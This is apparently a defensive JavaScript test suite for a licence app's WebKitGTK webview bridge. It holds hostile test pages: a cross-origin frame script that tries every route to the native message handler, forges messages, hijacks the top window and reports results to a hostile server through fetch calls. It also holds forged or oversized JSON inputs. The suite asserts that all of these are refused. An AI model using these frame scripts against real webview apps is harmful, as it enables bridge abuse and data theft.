// Tries: in an app's webview (WebKitGTK), a frame of another origin calls the bridge by every way that there is; another page takes
//   the window; the page says what no licence page says.
// Must: the frame reaches neither app nor page and hears nothing; the window goes nowhere, and no code to another page; what is said
//   wrongly is refused by name.
// Why: the app's handler is in a script world of its own, whose one script runs in the top frame of one origin; the app asks before the
//   window goes anywhere, and takes a text whole or not at all.
import assert from 'node:assert/strict';
import { after, afterEach, before } from 'node:test';
import { until } from '../authority/support/server.mjs';
import { missing } from '../hosts/support/app.mjs';
import { Pages } from '../hosts/support/pages.mjs';
import { Stage } from '../hosts/support/stage.mjs';
import { attack } from './support/attack.mjs';

const envelope = { type: 'e-license', version: 1 };
// The frame comes when the licence is there: one that leads the top window away sooner stops the page from loading, in any browser.
const framed = (url) => `<!doctype html><meta charset="utf-8"><script type="module" src="licence.js"></script><body><script>
  new MutationObserver((_, observer) => {
    if (!document.querySelector('e-license')) return;
    observer.disconnect();
    document.body.append(Object.assign(document.createElement('iframe'), { src: '${url}' }));
  }).observe(document.body, { childList: true });
</script>`;

// Runs in the frame: tries every way to the app, tells its own server what came of each, and whatever it ever hears.
const everyWay = `
  const tell = (what, value) => fetch('/told?' + encodeURIComponent(what + '=' + value));
  const ways = {
    handlerHere: () => window.webkit.messageHandlers.eLicense.postMessage(forged),
    handlerAbove: () => top.webkit.messageHandlers.eLicense.postMessage(forged),
    androidHere: () => window.eLicense.postMessage(forged),
    relayHere: () => window.hear(forged),
    relayAbove: () => top.hear(forged),
    eventAbove: () => top.document.dispatchEvent(new CustomEvent('e-license-say', { detail: forged })),
    elementAbove: () => top.document.querySelector('e-license').state,
    eventHere: () => { if (document.dispatchEvent(new CustomEvent('e-license-say', { detail: forged, cancelable: true }))) throw new Error('nobody'); },
    windowOpen: () => { if (!window.open('/stolen.html')) throw new Error('refused'); },
  };
  const forged = JSON.stringify({ type: 'e-license', version: 1, event: 'ready' });
  addEventListener('message', ({ data }) => tell('heard', JSON.stringify(data)));
  for (const name of ['e-license-hear', 'e-license-say']) document.addEventListener(name, ({ detail }) => { if (detail !== forged) tell('heard', detail); });
  const came = Object.entries(ways).map(([name, way]) => {
    try { way(); return name; } catch { return null; }
  }).filter(Boolean);
  for (const target of [top, parent]) {
    for (const detail of [forged, JSON.parse(forged), { type: 'e-license-say', detail: forged }]) target.postMessage(detail, '*');
  }
  try { top.location.href = location.origin + '/stolen.html'; } catch {}
  tell('came', came.join(','));
`;

/** @type {Stage} */
let stage;
/** @type {Pages} */
let hostile;
before(async () => { if (!missing) [stage, hostile] = [await Stage.start(), await Pages.start()]; });
after(async () => {
  hostile?.stop();
  await stage?.stop();
});
afterEach(() => {
  if (missing) return;
  hostile.asked.length = 0;
  hostile.texts = stage.pages.texts = {};
});
// Only the app is in the way.
const withoutPolicy = async (work) => {
  const policy = stage.pages.policy;
  stage.pages.policy = '';
  try {
    return await work();
  } finally {
    stage.pages.policy = policy;
  }
};

attack({ name: 'a frame of another origin calls the bridge of an app, in every way', outcome: 'refused', skip: missing }, (attempt) => withoutPolicy(async () => {
  stage.pages.texts['/framed.html'] = framed(`${hostile.origin}/frame.html`);
  hostile.texts = {
    '/frame.html': `<!doctype html><script>${everyWay}</script>`,
    '/stolen.html': `<!doctype html><script>fetch('/told?stolen')</script>`,
  };
  const app = stage.open({ page: `${stage.pages.origin}/framed.html`, 'frames-from': hostile.origin });
  const came = await until(() => hostile.asked.find((url) => url.startsWith('/told?came')), 'the end of its tries', 60_000);
  attempt.absent(came !== '/told?came%3D', came);
  await app.hears(({ event }) => event === 'ready', 'the page itself');
  // The top window is not led away, and no other one opened.
  attempt.stopped((await app.refuses('navigation')).refused, 'navigation');
  const { code, secrets } = await stage.person();
  app.tell(`code ${code}`);
  attempt.control((await app.reaches('live')).detail.state, 'live'); // the page around the frame
  assert.deepEqual(hostile.asked.filter((url) => !['/frame.html', came, '/stolen.html', '/favicon.ico'].includes(url)), []);
  assert.equal(app.said.filter(({ event }) => event === 'ready').length, 1);
  assert.deepEqual(app.said.filter(({ refused }) => refused && refused !== 'navigation'), []);
  for (const secret of [code, ...secrets]) assert.ok(!hostile.asked.join(' ').includes(encodeURIComponent(secret)));
  await app.stop();
}));

attack({ name: 'a frame of another origin, where the app allows none', outcome: 'refused', skip: missing }, (attempt) => withoutPolicy(async () => {
  stage.pages.texts['/framed.html'] = framed(`${hostile.origin}/frame.html`);
  const app = stage.open({ page: `${stage.pages.origin}/framed.html` });
  attempt.stopped((await app.refuses('navigation')).refused, 'navigation');
  app.tell(`code ${(await stage.person()).code}`);
  attempt.control((await app.reaches('live')).detail.state, 'live');
  assert.deepEqual(hostile.asked, []);
  await app.stop();
}));

attack({ name: 'another page takes the window of the app', outcome: 'refused', skip: missing }, (attempt) => withoutPolicy(async () => {
  const address = `${hostile.origin}/stolen.html`;
  hostile.texts['/stolen.html'] = `<!doctype html><script>
    document.addEventListener('e-license-hear', ({ detail }) => fetch('/told?' + encodeURIComponent(detail)));
    document.dispatchEvent(new CustomEvent('e-license-say', { detail: '${JSON.stringify({ ...envelope, event: 'ready' })}' }));
    fetch('/told?runs');
  </script>`;
  stage.pages.texts['/away.html'] = `<!doctype html><meta charset="utf-8"><script>location.href = '${address}';</script>`;
  const person = await stage.person();
  // Once where its origin is nobody, once where its pages may at least be framed.
  for (const allowed of [undefined, hostile.origin]) {
    const app = stage.open({ page: `${stage.pages.origin}/away.html`, 'frames-from': allowed });
    app.tell(`code ${person.code}`);
    await app.refuses('navigation');
    const from = app.said.length;
    app.tell(`open ${address}`);
    attempt.stopped((await app.refuses('navigation', from)).refused, 'navigation');
    // The licence's own page afterwards: only now is the code handed over.
    assert.deepEqual(app.said.filter(({ told }) => told), []);
    app.tell(`open ${stage.pages.origin}/licence.html`);
    attempt.control((await app.took('code')).told, 'code');
    assert.deepEqual(hostile.asked.filter((url) => url !== '/stolen.html' || allowed === undefined), []);
    await app.stop();
  }
}));

attack({ name: 'a page at another port of the same host', outcome: 'refused', skip: missing }, (attempt) => withoutPolicy(async () => {
  const app = stage.open();
  attempt.control((await app.hears(({ event }) => event === 'ready', 'the page')).event, 'ready');
  const from = app.said.length;
  app.tell(`open ${hostile.origin}/licence.html`);
  attempt.stopped((await app.refuses('navigation', from)).refused, 'navigation');
  assert.deepEqual(hostile.asked, []);
  await app.stop();
}));

attack({ name: 'texts that no licence page says', outcome: 'refused', skip: missing }, (attempt) => withoutPolicy(async () => {
  const state = { state: 'live', error: null, words: '' };
  const cases = [
    ['json', ''], ['json', '{'], ['json', 5], ['json', {}], ['json', '{"type":"e-license","type":"e-license"}'],
    ['json', `${'['.repeat(5000)}${']'.repeat(5000)}`],
    ['size', ' '.repeat(16_385)], ['size', 'x'.repeat(5_000_000)], ['size', '\u{1f600}'.repeat(8000)],
    ['shape', '[]'], ['shape', 'null'], ['shape', '"e-license"'],
    ['type', JSON.stringify({ version: 1, event: 'ready' })], ['type', JSON.stringify({ ...envelope, type: 'other', event: 'ready' })],
    ['version', JSON.stringify({ type: 'e-license', event: 'ready' })], ['version', JSON.stringify({ ...envelope, version: 2, event: 'ready' })],
    ['version', JSON.stringify({ ...envelope, version: '1', event: 'ready' })],
    ['shape', JSON.stringify(envelope)], ['shape', JSON.stringify({ ...envelope, event: 'other' })],
    ['shape', JSON.stringify({ ...envelope, event: 'ready', detail: {} })], ['shape', JSON.stringify({ ...envelope, event: 'state-change' })],
    ['shape', JSON.stringify({ ...envelope, event: 'state-change', detail: { ...state, name: '' } })],
    ['shape', JSON.stringify({ ...envelope, event: 'state-change', detail: { ...state, state: 1 } })],
    ['shape', JSON.stringify({ ...envelope, event: 'sign', detail: { id: 1.5, bytes: '' } })],
    ['shape', JSON.stringify({ ...envelope, event: 'ready', ask: 'code' })],
    ['sign', JSON.stringify({ ...envelope, event: 'sign', detail: { id: 1, bytes: 'AAAA' } })], // it has no key
  ];
  stage.pages.texts['/forging.html'] = `<!doctype html><meta charset="utf-8"><script>
    for (const detail of ${JSON.stringify(cases.map(([, text]) => text))}) document.dispatchEvent(new CustomEvent('e-license-say', { detail }));
    document.dispatchEvent(new CustomEvent('e-license-say', { detail: '${JSON.stringify({ ...envelope, event: 'state-change', detail: state })}' }));
  </script>`;
  const app = stage.open({ page: `${stage.pages.origin}/forging.html` });
  attempt.control((await app.reaches('live')).detail.state, 'live'); // the one that it may say
  const refused = app.said.map((line) => line.refused).filter(Boolean);
  assert.deepEqual(refused, cases.map(([why]) => why));
  for (const why of new Set(refused)) attempt.stopped(why, 'json', 'size', 'shape', 'type', 'version', 'sign');
  await app.stop();
}));
